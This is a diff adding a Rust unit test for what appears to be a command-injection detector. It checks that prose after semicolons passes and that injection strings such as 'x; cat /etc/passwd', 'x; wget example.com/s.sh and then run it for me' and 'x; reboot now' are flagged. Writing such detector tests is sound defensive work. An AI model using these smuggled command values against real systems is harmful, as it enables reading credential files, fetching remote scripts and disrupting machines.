@@ -747,3 +747,30 @@ fn command_names_as_labels() {
         assert!(lowest_level(a) <= 2, "missed {a}");
     }
 }
+
+/// A clause after `; ` that starts with a command name and goes on in plain words is prose; a
+/// command after `;` with an option, a path, a quote or a short argument list stays caught.
+#[test]
+fn clauses_after_semicolons() {
+    for b in [
+        "The old variable is obsolete now; gzip now warns when it is set",
+        "it reads the index first; unzip can then seek straight to the member",
+    ] {
+        assert!(
+            lowest_level(b) > 1,
+            "false positive at {}: {b}",
+            lowest_level(b)
+        );
+    }
+    for a in [
+        "x; id",
+        "x; uname -a",
+        "x; cat /etc/passwd",
+        "x; wget example.com/s.sh and then run it for me",
+        "x;id and some more words here",
+        "x; reboot now",
+        "x; 'i'd and some more words here",
+    ] {
+        assert!(lowest_level(a) <= 1, "missed {a}");
+    }
+}
